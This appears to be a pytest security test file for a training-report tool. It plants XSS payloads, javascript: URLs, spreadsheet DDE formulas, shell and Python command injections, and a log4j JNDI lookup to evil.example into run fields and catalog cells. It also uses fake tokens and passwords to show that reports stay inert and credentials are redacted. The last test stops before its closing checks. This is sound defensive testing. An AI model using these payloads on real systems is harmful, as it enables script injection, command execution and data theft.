"""Reports never leak secrets or run scripts (issue 7).

1. A run in which every string that can come from a run carries script, markup, `javascript:` URLs and
   Markdown link syntax (each with its own marker, so each field is traced onto the page) renders as
   inert text in HTML and Markdown, and as valid strict JSON.
2. Secrets in the environment, by name and by value, reach neither the run directory nor the report.
3. `tuneup report`, `show` and `compare` work with the network cut off, and the page fetches nothing.
4. A user's price catalog is data: its cells are shown, never run; a bad file is a one-line error.

Runs are written through the real writer and read through the real reader and analysis.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import socket
import threading
import urllib.request
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tuneup.analyze.model import from_json
from tuneup.catalog import CatalogError, load_instances
from tuneup.cli import main
from tuneup.collect.environment import REDACTED, capture_environment, captured_environment
from tuneup.cost.options import CostOptions
from tuneup.cost.pricing import PriceChoice
from tuneup.record import RankWriter, write_manifest
from tuneup.report import build_report, report_schema, write_report
from tuneup.report.html import render_html
from tuneup.report.markdown import render_markdown
from tuneup.report.sections import SECTIONS

from synthetic import make_run

T0 = 1_700_000_000.0
GIB = 2**30
SECTION_TITLES = dict(SECTIONS)


def marker(tag: str) -> str:
    """The part of a payload that identifies its field on the page."""
    return f"<script>alert('{tag}')</script>"


def payload(tag: str) -> str:
    """Everything a run string could try, in one: a script, an attribute break-out with an event
    handler, a javascript: URL, Markdown link and image syntax, a table-cell separator, a line break that
    would start a Markdown heading, and mathtext that matplotlib cannot parse (a `$` in a plot label must
    not cost the report a figure)."""
    return (
        f"{marker(tag)}\"><img src=x onerror=alert('{tag}')> javascript:alert('{tag}') "
        f"[x](javascript:alert('{tag}')) ![x](http://evil.example/{tag}.png) |cell|\n## {tag}\n"
        "$\\notacommand{$"
    )


# Catalog cells a template engine, a shell, a spreadsheet or a log4j would act on: here they are text.
CATALOG_INJECTIONS = {
    "source": "__import__('os').system('touch PWNED')",
    "as_of": "=cmd|' /C calc'!A0",
    "doubt": "{{7*7}} ${jndi:ldap://evil.example/a} `touch PWNED` $(touch PWNED)",
    "intra_node_link": "@SUM(1+1)*cmd|' /C calc'!A0",
}

# Where each planted field shows: the section whose visible text must hold the field's marker.
RENDERED_AT = {
    "run_id": "run",
    "path": "run",  # the run directory's own name
    "namespace": "run",
    "strategy": "run",
    "accelerator": "run",
    "precision": "run",
    "model_class": "run",
    "host0": "run",
    "host1": "run",
    "status": "run",
    "timing": "run",
    "data_timing": "run",
    "cpu_model": "run",
    "gpu_name": "run",
    "driver": "run",
    "callback": "environment",
    "gradient_clip_algorithm": "environment",
    "dl_class": "environment",
    "dataset": "environment",
    "sampler": "environment",
    "torch_version": "environment",
    "hostname": "environment",
    "os": "environment",
    "NCCL_DEBUG": "environment",
    "CUDA_VISIBLE_DEVICES": "environment",
    "env_name": "environment",
    "commit": "environment",
    "branch": "environment",
    "remote": "environment",
    "cuda_driver": "environment",
    "bus0": "environment",
    "bus1": "environment",
    "throttle": "hardware",
    "iface": "hardware",
    "backend": "communication",
    "dtype": "communication",
    "price_source": "cost",
    "cat_gpu": "cost",
    "cat_source": "cost",
    "cat_as_of": "cost",
    "cat_doubt": "cost",
    "cat_link": "cost",
    "cat_gbps": "cost",
    "cat_path": "cost",  # the user catalog's file name
}
# A damaged line's warning names its file, and so the run's (planted) path.
RENDERED = sorted([*RENDERED_AT.items(), ("path", "warnings")])
# Recorded, planted, but not shown by the report (today): they must still not come out as markup.
NOT_RENDERED = (
    "model_module",
    "nccl_version",
    "nccl_env",
    "device",
    "exc_type",
    "exc_msg",
    "event_kind",
    "event_text",
    "coll_source",
)


def _hostile_dir(parent: Path, tag: str) -> Path:
    """A directory whose path reads `...<script>alert('tag')</script>"><img ...>`: a file name holds no '/',
    so the closing tag's slash is the separator between two directories."""
    head, tail = marker(tag).split("</", 1)
    path = parent / (head + "<") / (tail + f"\"><img src=x onerror=alert('{tag}')>")
    path.mkdir(parents=True)
    return path


def _write_catalog(path: Path, rows: list[dict[str, str]]) -> Path:
    columns = list(dict.fromkeys(k for row in rows for k in row))
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)
    return path


def _catalog_row(**cells: str) -> dict[str, str]:
    row = {
        "provider": "evil",
        "instance": "box-8",
        "region": "us-east-1",
        "gpu": "H200-SXM",
        "gpu_count": "8",
        "on_demand_usd_hr": "40",
        "spot_usd_hr": "20",
        "source": "mine",
        "as_of": "2025-01-01",
    }
    row.update(cells)
    return row


def write_planted_run(run: Path, *, pricing: dict[str, Any] | None = None) -> Path:
    """A 2-rank run, through the real writer, with a payload in every string a run records."""
    P = payload
    manifest: dict[str, Any] = {
        "run_id": P("run_id"),
        "created_unix": T0,
        "world_size": 2,
        "num_nodes": 1,
        "trainer": {
            "namespace": P("namespace"),
            "strategy": P("strategy"),
            "accelerator": P("accelerator"),
            "precision": P("precision"),
            "accumulate_grad_batches": 1,
            "max_steps": 1000,
            "gradient_clip_algorithm": P("gradient_clip_algorithm"),
            "callbacks": ["TuneupCallback", P("callback")],
        },
        "dataloader": {
            "found": True,
            "class": P("dl_class"),
            "dataset": P("dataset"),
            "sampler": P("sampler"),
            "batch_size": 8,
        },
        "model": {"class": P("model_class"), "module": P("model_module"), "parameters": 1000},
        "environment": {
            "versions": {"torch": P("torch_version")},
            "host": {"hostname": P("hostname"), "cpu_model": P("cpu_model"), "os": P("os")},
            "env": {
                "NCCL_DEBUG": P("NCCL_DEBUG"),
                "CUDA_VISIBLE_DEVICES": P("CUDA_VISIBLE_DEVICES"),
                "TUNEUP_" + P("env_name"): "1",
            },
            "git": {"commit": P("commit"), "branch": P("branch"), "dirty": True, "remote": P("remote")},
            "seeds": {"pl_global_seed": 0},
        },
        "gpus": {
            "driver_version": P("driver"),
            "cuda_driver_version": P("cuda_driver"),
            "gpus": [
                {"index": i, "name": P("gpu_name"), "pci_bus_id": P(f"bus{i}"), "memory_total_bytes": GIB}
                for i in range(2)
            ],
        },
        "communication": {
            "backend": P("backend"),
            "nccl_version": P("nccl_version"),
            "nccl_env": {"NCCL_ALGO": P("nccl_env")},
        },
    }
    if pricing is not None:
        manifest["pricing"] = pricing
    write_manifest(run, manifest)
    for rank in range(2):
        w = RankWriter(run, rank)
        w.open({"host": P(f"host{rank}"), "start_unix": T0, "timing": P("timing"), "device": P("device")})
        w.add_event("exception", type=P("exc_type"), message=P("exc_msg"))
        w.add_event(P("event_kind"), text=P("event_text"))
        for s in range(40):
            w.add_step(
                {
                    "step": s,
                    "epoch": 0,
                    "t_end": T0 + 0.1 + s * 0.1,
                    "wall_ms": 100.0,
                    "data_ms": 1.0,
                    "forward_ms": 40.0,
                    "backward_ms": 50.0,
                    "optimizer_ms": 5.0,
                    "other_ms": 4.0,
                    "micro_batches": 1,
                    "samples": 8,
                    "tokens": 1000,
                    "loss": 1.0,
                    "comm_ms": 10.0,
                    "comm_exposed_ms": 2.0,
                    "comm_bytes": 1000,
                    "comm_count": 1,
                    "_collectives": [
                        {
                            "kind": "all_reduce",
                            "bytes": 1000 * (1 + s % 3),
                            "duration_ms": 1.0 + s % 3,
                            "dtype": P("dtype"),
                            "bucket": 0,
                            "world_size": 2,
                            "source": P("coll_source"),
                        }
                    ],
                }
            )
        for i in range(11):
            w.add_telemetry(
                {
                    "t": T0 + i,
                    "process": {"cpu_percent": 100.0, "rss_bytes": GIB},
                    "system": {
                        "cpu_percent": 10.0,
                        "mem_used_bytes": GIB,
                        "mem_total_bytes": 2 * GIB,
                        "net": {P("iface"): {"recv_bytes": 1e6 * i, "sent_bytes": 1e6 * i}},
                    },
                    "gpus": [
                        {
                            "index": rank,
                            "bus_id": P(f"bus{rank}"),
                            "util_percent": 90.0,
                            "power_w": 500.0,
                            "energy_j": 500.0 * i,
                            "throttle": [P("throttle")],
                        }
                    ],
                }
            )
        w.close(status=P("status"), data_timing=P("data_timing"))
    # A line cut mid-write: the reader skips it, and its warning names the file (and so the run's path).
    with open(run / "rank-0" / "events.jsonl", "a", encoding="utf-8") as f:
        f.write('{"kind": "exception", "message": "' + marker("cut"))
    return run


# --------------------------------------------------------------------------------------------------
# Reading a page


class Page(HTMLParser):
    """Every tag and attribute of a page, and the visible text of each section."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: dict[str, str] = {}
        self.style = ""
        self.oddities: list[str] = []  # comments, processing instructions, declarations after the doctype
        self._section: str | None = None
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "section":
            self._section = dict(attrs).get("id") or ""
        self._in_style = tag == "style"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag == "section":
            self._section = None
        if tag == "style":
            self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style += data
        elif self._section is not None:
            self.text[self._section] = self.text.get(self._section, "") + data

    def handle_comment(self, data: str) -> None:
        self.oddities.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.oddities.append(f"<?{data}>")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.oddities.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(f"<![{data}]>")


def parse(page: str) -> Page:
    parser = Page()
    parser.feed(page)
    parser.close()
    return parser


# Attributes that load or navigate to a URL.
URL_ATTRIBUTES = {
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "poster",
    "data",
    "background",
    "xlink:href",
}
# Tags that run, embed or fetch something; none belongs in a report.
ACTIVE_TAGS = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "link",
    "base",
    "form",
    "svg",
    "math",
}


def assert_inert_html(page: str, plot_count: int) -> Page:
    parsed = parse(page)
    assert "<script" not in page.lower()
    assert not parsed.oddities, parsed.oddities
    for tag, attrs in parsed.tags:
        assert tag not in ACTIVE_TAGS, (tag, attrs)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name != "style", (tag, value)  # styles live in the one <style> element
            if name in URL_ATTRIBUTES:
                url = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
                assert not url.startswith(("javascript:", "vbscript:")), (tag, name, value)
                if name == "href":
                    assert url.startswith("#"), (tag, value)  # in-page links only
                else:
                    assert tag == "img" and re.match(r"data:image/(png|jpeg|gif);base64,", url), (tag, value)
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            raise AssertionError(attrs)
    images = [a for t, a in parsed.tags if t == "img"]
    assert len(images) == plot_count  # images are the report's own plots, nothing a run string made
    return parsed


def md_sections(md: str) -> dict[str, str]:
    """Section id -> that section's Markdown."""
    parts = re.split(r"^## (.+)$", md, flags=re.MULTILINE)
    by_title = {parts[i]: parts[i + 1] for i in range(1, len(parts) - 1, 2)}
    return {sid: by_title.get(title, "") for sid, title in SECTIONS}


def _unescaped(pattern: str) -> str:
    # A character is escaped when an odd number of backslashes precede it.
    return r"(?<!\\)(?:\\\\)*" + pattern


def md_cells(line: str) -> int:
    return len(re.findall(_unescaped(r"\|"), line)) - 1


def assert_inert_markdown(md: str, plot_names: list[str]) -> None:
    # Raw HTML: only the renderer's own folding tags.
    tags = set(re.findall(r"<[^>\s]*", md))
    assert tags <= {"<details", "<summary", "</summary", "</details"}, tags
    # Links and images: only the plots, each to its PNG beside the .md; every other bracket is escaped.
    plot_image = r"!\[(?:\\.|[^\\\]\n])*\]\(([\w.-]+\.png)\)"
    assert sorted(re.findall(plot_image, md)) == sorted(plot_names)
    rest = re.sub(plot_image, "", md)
    assert not re.search(_unescaped(r"[\[\]]"), rest), re.search(
        r".{40}" + _unescaped(r"[\[\]]") + ".{40}", rest
    )
    assert not re.search(r"<(?:https?|javascript|mailto):", rest, re.IGNORECASE)  # no autolinks
    assert not re.search(_unescaped(r"\$"), md)  # GitHub would read inline maths
    # A table keeps one row per line and its header's column count, whatever its cells hold.
    table: list[str] = []
    for line in [*md.splitlines(), ""]:
        if line.startswith("|"):
            table.append(line)
            continue
        if table:
            assert {md_cells(row) for row in table} == {md_cells(table[0])}, table
            assert all(row.endswith("|") for row in table), table
            table = []


def load_strict_json(text: str) -> Any:
    def refuse(constant: str) -> None:
        raise ValueError(f"not strict JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def grep_tree(root: Path, needles: list[str]) -> list[tuple[str, str]]:
    """(file, needle) for every needle found in any file under `root`, as text or inside binary."""
    found = []
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        data = path.read_bytes()
        found.extend((str(path), n) for n in needles if n.encode() in data)
    return found


# --------------------------------------------------------------------------------------------------
# 1. Script planted everywhere


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    base = tmp_path_factory.mktemp("planted")
    run = write_planted_run(_hostile_dir(base, "path") / "run")
    catalog = _write_catalog(
        _hostile_dir(base, "cat_path") / "catalog.csv",
        [
            _catalog_row(
                gpu=payload("cat_gpu"),
                intra_node_link=payload("cat_link"),
                inter_node_gbps=payload("cat_gbps"),
                source=payload("cat_source"),
                as_of=payload("cat_as_of"),
                doubt=payload("cat_doubt"),
            )
        ],
    )
    out = base / "out"
    cost = CostOptions(
        price=PriceChoice(instance="evil:box-8", catalog=str(catalog), source=payload("price_source")),
        catalog=str(catalog),
    )
    written = write_report(run, out, "html,md,json", cost=cost)
    return {
        "run": run,
        "out": out,
        "page": (out / "report.html").read_text(encoding="utf-8"),
        "md": (out / "report.md").read_text(encoding="utf-8"),
        "json": (out / "report.json").read_text(encoding="utf-8"),
        "plots": sorted(p.name for p in written.files if p.suffix == ".png"),
    }


def test_the_planted_html_is_inert(planted: dict[str, Any]) -> None:
    parsed = assert_inert_html(planted["page"], len(planted["plots"]))
    assert [a.get("id") for t, a in parsed.tags if t == "section"] == [sid for sid, _ in SECTIONS]
    # The page's own defence in depth is there: no script, no fetch, whatever got in.
    csp = [a.get("content") or "" for t, a in parsed.tags if t == "meta" and a.get("http-equiv")]
    assert csp and "default-src 'none'" in csp[0]


@pytest.mark.parametrize(("tag", "section"), RENDERED)
def test_each_planted_field_reaches_the_page_as_text(planted: dict[str, Any], tag: str, section: str) -> None:
    # Shown, as the text it is: the browser's visible text holds the script, the page's source only its
    # escaped form. A field that never reached the page would prove nothing above.
    assert marker(tag) in parse(planted["page"]).text.get(section, ""), f"{tag} is not in section {section}"
    assert html.escape(marker(tag)) in planted["page"]
    md_section = md_sections(planted["md"])[section]
    assert f"&lt;script&gt;alert('{tag}')&lt;/script&gt;" in md_section, f"{tag} not in Markdown {section}"


@pytest.mark.parametrize("tag", NOT_RENDERED)
def test_fields_the_report_does_not_show_stay_out_of_it(planted: dict[str, Any], tag: str) -> None:
    for out in (planted["page"], planted["md"]):
        assert f"alert('{tag}')" not in out


def test_the_planted_markdown_is_inert(planted: dict[str, Any]) -> None:
    md = planted["md"]
    assert_inert_markdown(md, planted["plots"])
    assert "<script" not in md.lower() and "<img" not in md.lower()
    assert not re.search(_unescaped(r"\]\(javascript:"), md)
    # The planted image syntax lost its power: "![x](" only as an escaped "!\[x\](".
    assert "![x](" not in md and md.count(r"!\[x\](http://evil.example/") >= len(RENDERED_AT)
    # Every heading is the renderer's: a run string cannot open a section.
    assert [line[3:] for line in md.splitlines() if line.startswith("## ")] == list(SECTION_TITLES.values())


def test_the_planted_json_is_strict_and_keeps_the_strings(planted: dict[str, Any]) -> None:
    report = load_strict_json(planted["json"])
    jsonschema.validate(report, report_schema())
    # JSON is data: the strings are kept exactly, for whoever reads them to escape for their medium.
    assert report["run"]["run_id"] == payload("run_id")
    assert report["environment"]["env"]["NCCL_DEBUG"] == payload("NCCL_DEBUG")
    # (A catalog cell loses a continuation line that starts with "#": the catalog reader takes it for a
    # comment line. Harmless here; only the marker is compared.)
    assert report["cost"]["price"]["instance"]["doubt"].startswith(marker("cat_doubt"))


def test_hostile_plot_labels_cost_no_figure(planted: dict[str, Any]) -> None:
    # `$\notacommand{$` in host, GPU and interface names reaches plot titles and legends; mathtext would
    # raise on it and the figure would be dropped. Every figure this run has data for is drawn.
    assert planted["plots"] == sorted(
        [
            "badput.png",
            "communication.png",
            "convergence_ranks.png",
            "fit_timeline.png",
            "gpu_utilization.png",
            "host_utilization.png",
            "loss.png",
            "rank_step_time.png",
            "step_breakdown.png",
            "step_time.png",
            "throughput.png",
        ]
    )


def test_a_recorded_price_source_is_escaped(tmp_path: Path) -> None:
    run = write_planted_run(
        tmp_path / "run", pricing={"price_per_hour": 3.5, "price_per": "node", "source": payload("recorded")}
    )
    report = build_report(run)
    assert report["cost"]["priced"] is True
    analysis = from_json(report)
    page, md = render_html(analysis, []), render_markdown(analysis, [])
    assert_inert_html(page, 0)
    assert_inert_markdown(md, [])
    assert marker("recorded") in parse(page).text["cost"]
    assert "&lt;script&gt;alert('recorded')&lt;/script&gt;" in md_sections(md)["cost"]


def test_a_hostile_collective_kind_does_not_stop_the_report(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", world_size=1)
    with open(run / "rank-0" / "collectives.jsonl", "a", encoding="utf-8") as f:
        f.write(json.dumps({"step": 1, "kind": payload("kind"), "bytes": 10, "duration_ms": 1.0}) + "\n")
    written = write_report(run, tmp_path / "out", "html,md")
    assert any("collectives.jsonl" in w for w in written.warnings), written.warnings
    assert_inert_html((tmp_path / "out" / "report.html").read_text(encoding="utf-8"), len(written.files) - 2)
    assert "alert('kind')" not in (tmp_path / "out" / "report.md").read_text(encoding="utf-8")


def test_a_run_id_cannot_steer_the_report_out_of_reports(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = make_run(tmp_path / "run")
    manifest = json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    manifest.pop("schema_version")
    write_manifest(run, {**manifest, "run_id": "../../escaped"})
    cwd = tmp_path / "work" / "here"
    cwd.mkdir(parents=True)
    monkeypatch.chdir(cwd)
    write_report(run, formats="json")
    written = [p.relative_to(tmp_path) for p in tmp_path.rglob("report.json")]
    assert all(p.parts[:3] == ("work", "here", "reports") for p in written), written


# --------------------------------------------------------------------------------------------------
# 2. Redaction

AKIA = "AKIAQ3EGUZ7XMPLE5KEY"
GITHUB = "ghp_" + "Zq8Rk2Lm4Nx6Pb0Tv3Wy5Hc7Jd9Fg1Sa2Ue4"
BASE64_40 = "q7Fj2LpX9vKm3RtZ8wYc5NhB1dGs6EuA4oTi0PlQ"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk"
URL_PASSWORD = "hunter2Pass"
URL_WITH_PASSWORD = f"https://alice:{URL_PASSWORD}@db.internal.example:5432/x"

# name -> value: outside the allow-list (never captured), inside it (redacted by name), and allow-listed
# names whose values look like credentials (redacted by value).
SECRET_ENV = {
    "HF_TOKEN": "hf-plainvalue-one",
    "AWS_SECRET_ACCESS_KEY": "plainvalue-two",
    "WANDB_API_KEY": "plainvalue-three",
    "DB_PASSWORD": "plainvalue-four",
    "GOOGLE_APPLICATION_CREDENTIALS": "/home/alice/plainvalue-five.json",
    "my_token": "plainvalue-six",
    "TUNEUP_HF_TOKEN": "plainvalue-seven",
    "TORCH_my_token": "plainvalue-eight",
    "PL_Api_Key": "plainvalue-nine",
    "NCCL_IB_PASSWORD": "plainvalue-ten",
    "CUDA_SECRET_SAUCE": "plainvalue-eleven",
    "NVIDIA_CREDENTIAL_FILE": "plainvalue-twelve",
    "PYTORCH_keyring": "plainvalue-thirteen",
    "NCCL_SOCKET_IFNAME": GITHUB,
    "MASTER_ADDR": URL_WITH_PASSWORD,
    "CUDA_VISIBLE_DEVICES": AKIA,
    "TORCH_HOME": BASE64_40,
    "PL_AUTH_HEADER": JWT,
    "TUNEUP_NOTE": f"bearer {JWT}",
    "NCCL_DEBUG_FILE": f"/tmp/nccl.{GITHUB}.log",
}
# What must appear nowhere: each value, and the password alone (a URL half-stripped still leaks it).
SECRET_VALUES = sorted({*SECRET_ENV.values(), URL_PASSWORD} - {URL_WITH_PASSWORD})


def _set_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRET_ENV.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("NCCL_DEBUG", "INFO")  # an ordinary one, to show capture works at all


def test_capture_redacts_secret_names_and_values(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    _set_secrets(monkeypatch)
    capture = capture_environment(cwd=str(tmp_path))
    env = capture["env"]
    assert env is not None and env["NCCL_DEBUG"] == "INFO"
    for name in ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "WANDB_API_KEY", "DB_PASSWORD", "my_token"):
        assert name not in env  # outside the allow-list
    assert "GOOGLE_APPLICATION_CREDENTIALS" not in env
    for name in SECRET_ENV:
        if name in env:
            assert env[name] == REDACTED, name
    assert {"TUNEUP_HF_TOKEN", "NCCL_SOCKET_IFNAME", "MASTER_ADDR", "CUDA_VISIBLE_DEVICES"} <= set(env)
    text = json.dumps(capture)
    assert [v for v in SECRET_VALUES if v in text] == []

    # Through the writer into a run, and out as a report: no file holds a secret.
    run = make_run(tmp_path / "run")
    manifest = json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    manifest.pop("schema_version")
    write_manifest(run, {**manifest, "environment": capture})
    write_report(run, tmp_path / "report")
    assert grep_tree(run, SECRET_VALUES) == []
    assert grep_tree(tmp_path / "report", SECRET_VALUES) == []
    assert "TUNEUP_HF_TOKEN" in (tmp_path / "report" / "report.html").read_text(encoding="utf-8")


# Credentials the value check used to let through, each under an allow-listed name whose name says nothing.
MISSED_SECRET_VALUES = {
    "redis, password without user": "redis://:hunter2pw@cache.internal:6379/0",
    "amqp, password without user": "amqp://:hunter2pw@mq.internal:5672/",
    "Azure SAS URL": "https://acct.blob.core.windows.net/c?sv=2020-08-04&sp=rw&sig=Ab3dEf%2BghIjk%2F67%3D",
    "query string pass": "https://db.internal/x?user=bob&pass=hunter2pw",
    "HTTP basic auth": "Basic YWxpY2U6aHVudGVyMnB3",
    "short bearer token": "Authorization: Bearer abc123def456",
    "password flag": "--passwd hunter2pw",
    "pass flag": "--pass=hunter2pw",
}
# Credential names the name check used to let through.
MISSED_SECRET_NAMES = ("TUNEUP_DB_PASS", "PL_SSH_PASSPHRASE", "TUNEUP_SLACK_WEBHOOK", "TUNEUP_SESSION_COOKIE")
# Near misses that must stay readable.
NOT_SECRETS = (
    "basic",
    "Bearer",
    "bypass=true",
    "compass:north",
    "design:v2",
    "oauth2 flow",
    "redis://cache.internal:6379/0",
    "https://user@host.example/x",
)


@pytest.mark.parametrize("value", MISSED_SECRET_VALUES.values(), ids=MISSED_SECRET_VALUES.keys())
def test_credential_shaped_values_are_redacted(value: str) -> None:
    assert captured_environment({"MASTER_ADDR": value, "TUNEUP_NOTE": value}) == {
        "MASTER_ADDR": REDACTED,
        "TUNEUP_NOTE": REDACTED,
    }


@pytest.mark.parametrize("name", MISSED_SECRET_NAMES)
def test_credential_names_are_redacted(name: str) -> None:
    assert captured_environment({name: "plain"}) == {name: REDACTED}


@pytest.mark.parametrize("value", NOT_SECRETS)
def test_near_misses_stay_readable(value: str) -> None:
    assert captured_environment({"TUNEUP_NOTE": value}) == {"TUNEUP_NOTE": value}


EXCEPTION_SECRET = "ghp_" + "Ex9Cp2Tn4Sc6Rt8Qw1Er3Ty5Ui7Op9As1Df"
EXCEPTION_PASSWORD = "c0rrectHorse"


@pytest.fixture(scope="module")
def fitted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """One real fit, in this process, with secrets in the environment and an exception carrying one."""
    import lightning.pytorch as L

    from tuneup import TuneupCallback

    from workloads.tiny import make_loader, make_module, make_trainer

    class Fails(L.Callback):
        def on_train_batch_start(self, trainer: Any, pl_module: Any, batch: Any, batch_idx: int) -> None:
            if trainer.global_step >= 6:
                raise RuntimeError(
                    f"cannot reach https://carol:{EXCEPTION_PASSWORD}@db.example/x with {EXCEPTION_SECRET}"
                )

    base = tmp_path_factory.mktemp("fit")
    out = base / "run"
    with pytest.MonkeyPatch.context() as mp:
        _set_secrets(mp)
        network_attempts = cut_network(mp)  # training is watched without a network, too
        callback = TuneupCallback(dirpath=out, telemetry_interval_s=0.2)
        trainer = make_trainer("lightning", [callback, Fails()], max_steps=12, root=str(base))
        with pytest.raises(RuntimeError, match="cannot reach"):
            trainer.fit(make_module("lightning"), make_loader())
        write_report(callback.run_dir, base / "report")
    assert network_attempts == []
    return {"run": callback.run_dir, "report": base / "report"}


def test_a_real_run_records_no_secret_from_the_environment(fitted: dict[str, Path]) -> None:
    manifest = json.loads((fitted["run"] / "manifest.json").read_text(encoding="utf-8"))
    env = manifest["environment"]["env"]
    assert env["NCCL_SOCKET_IFNAME"] == env["MASTER_ADDR"] == env["TUNEUP_HF_TOKEN"] == REDACTED
    assert manifest["communication"]["nccl_env"]["NCCL_SOCKET_IFNAME"] == REDACTED
    assert grep_tree(fitted["run"], SECRET_VALUES) == []
    assert grep_tree(fitted["report"], SECRET_VALUES) == []


def test_a_real_run_records_no_secret_from_an_exception(fitted: dict[str, Path]) -> None:
    events = (fitted["run"] / "rank-0" / "events.jsonl").read_text(encoding="utf-8")
    assert '"kind":"exception"' in events
    assert grep_tree(fitted["run"], [EXCEPTION_SECRET, EXCEPTION_PASSWORD]) == []


def test_a_recorded_catalog_path_cannot_read_local_files_into_the_report(tmp_path: Path) -> None:
    netrc = tmp_path / "netrc"
    password = "hunter2-netrc"  # lower case: the header is read case-insensitively, and so is quoted
    netrc.write_text(f"machine github.com login bob password {password}\n", encoding="utf-8")
    run = make_run(tmp_path / "run")
    manifest = json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    manifest.pop("schema_version")
    write_manifest(run, {**manifest, "pricing": {"instance": "aws:p4d.24xlarge", "catalog": str(netrc)}})
    write_report(run, tmp_path / "out", "json")
    assert grep_tree(tmp_path / "out", [password]) == []


# --------------------------------------------------------------------------------------------------
# 3. No network access


def cut_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Cut the network off in this process; the list records every attempt."""
    attempts: list[str] = []

    def refuse(what: str) -> Any:
        def call(*args: Any, **kwargs: Any) -> Any:
            attempts.append(f"{what}{args[1:2] or args[:1]}")
            raise OSError(f"network access attempted in a test: {what}")

        return call

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    monkeypatch.setattr(urllib.request, "urlopen", refuse("urllib.request.urlopen"))
    return attempts


@pytest.fixture
def offline(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    return cut_network(monkeypatch)


def test_report_show_and_compare_work_offline(
    planted: dict[str, Any], tmp_path: Path, offline: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    run = planted["run"]
    catalog = _write_catalog(tmp_path / "catalog.csv", [_catalog_row()])
    out = tmp_path / "out"
    assert (
        main(["report", str(run), "-o", str(out), "--instance", "evil:box-8", "--catalog", str(catalog)]) == 0
    )
    assert {p.name for p in out.iterdir()} >= {"report.html", "report.md", "report.json"}
    assert main(["show", str(run), "--price-per-hour", "3"]) == 0
    assert "tuneup run" in capsys.readouterr().out
    a, b = make_run(tmp_path / "a"), make_run(tmp_path / "b")
    manifest = json.loads((b / "manifest.json").read_text(encoding="utf-8"))
    manifest.pop("schema_version")
    write_manifest(b, {**manifest, "run_id": "r2"})  # a run compared with itself is refused
    md, js = tmp_path / "compare.md", tmp_path / "compare.json"
    assert main(["compare", str(a), str(b), "--markdown", str(md), "--json", str(js)]) in (0, 1)
    assert md.read_text(encoding="utf-8") and load_strict_json(js.read_text(encoding="utf-8"))
    assert offline == []


def test_the_page_fetches_nothing(planted: dict[str, Any]) -> None:
    page = planted["page"]
    parsed = parse(page)
    for tag, attrs in parsed.tags:
        for name, value in attrs.items():
            if name == "content" and (attrs.get("http-equiv") or "").lower() == "content-security-policy":
                continue
            if name == "src" and (value or "").startswith("data:image/"):
                continue  # base64 holds "//" by chance; assert_inert_html checked the data: URI itself
            assert not re.search(r"(https?:)?//", value or ""), (tag, name, value)
    assert "@import" not in parsed.style and "url(" not in parsed.style and "//" not in parsed.style
    # The planted http:// URLs are on the page, but only as text.
    assert "http://evil.example/" in "".join(parsed.text.values())


# --------------------------------------------------------------------------------------------------
# 4. Catalogs are data


def test_catalog_cells_are_never_run(
    planted: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    catalog = _write_catalog(tmp_path / "catalog.csv", [_catalog_row(**CATALOG_INJECTIONS)])
    instance = load_instances(catalog).lookup("evil:box-8")
    assert (instance.source, instance.as_of, instance.doubt, instance.intra_node_link) == tuple(
        CATALOG_INJECTIONS[k] for k in ("source", "as_of", "doubt", "intra_node_link")
    )
    out = tmp_path / "out"
    cost = CostOptions(price=PriceChoice(instance="evil:box-8", catalog=str(catalog)), catalog=str(catalog))
    write_report(planted["run"], out, "html,md,json", cost=cost)
    assert not list(tmp_path.rglob("PWNED")) and not list(Path(planted["run"]).parent.rglob("PWNED"))
    page = (out / "report.html").read_text(encoding="utf-8")
    md = (out / "report.md").read_text(encoding="utf-8")
    report = load_strict_json((out / "report.json").read_text(encoding="utf-8"))
